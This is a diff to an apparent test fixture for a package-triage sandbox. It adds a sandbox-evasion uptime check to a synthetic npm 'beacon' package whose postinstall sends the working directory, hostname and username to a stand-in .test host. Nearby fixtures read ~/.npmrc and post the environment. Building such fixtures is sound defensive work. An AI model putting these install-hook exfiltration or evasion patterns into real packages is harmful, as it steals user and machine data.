@@ -17,7 +17,9 @@ https   telemetry-env-report: its postinstall posts the whole environment
         the clear on the wire, which only TLS interception shows.
 beacon  install-metrics-beacon: a dependency-confusion style probe whose
         postinstall GETs https://.../ping?d=<cwd>&h=<hostname> (no token,
-        no body) and resolves its own hostname, as much real code does.
+        no body) and resolves its own hostname, as much real code does;
+        up= says whether the machine has been up for days (triage's time
+        namespace) or was just booted, as evasive samples ask.
 otheros win-path-helper: declares "os": ["win32"] and "cpu": ["x64"],
         which npm refuses to install on Linux (EBADPLATFORM), and carries a
         postinstall that reads ~/.npmrc and looks up a .test name.
@@ -82,7 +84,8 @@ PACKAGES = {
         "ping.js": (
             "const os = require('os');\n"
             "require('dns').lookup(os.hostname(), () => {});\n"
-            "const q = new URLSearchParams({d: process.cwd(), h: os.hostname(), u: os.userInfo().username});\n"
+            "const up = os.uptime() > 2 * 86400 ? 'days' : 'fresh';\n"
+            "const q = new URLSearchParams({d: process.cwd(), h: os.hostname(), u: os.userInfo().username, up});\n"
             "require('https').get('https://metrics-beacon.test/ping?' + q, r => r.resume())\n"
             "  .on('error', () => {});\n", 0o644),
     }),
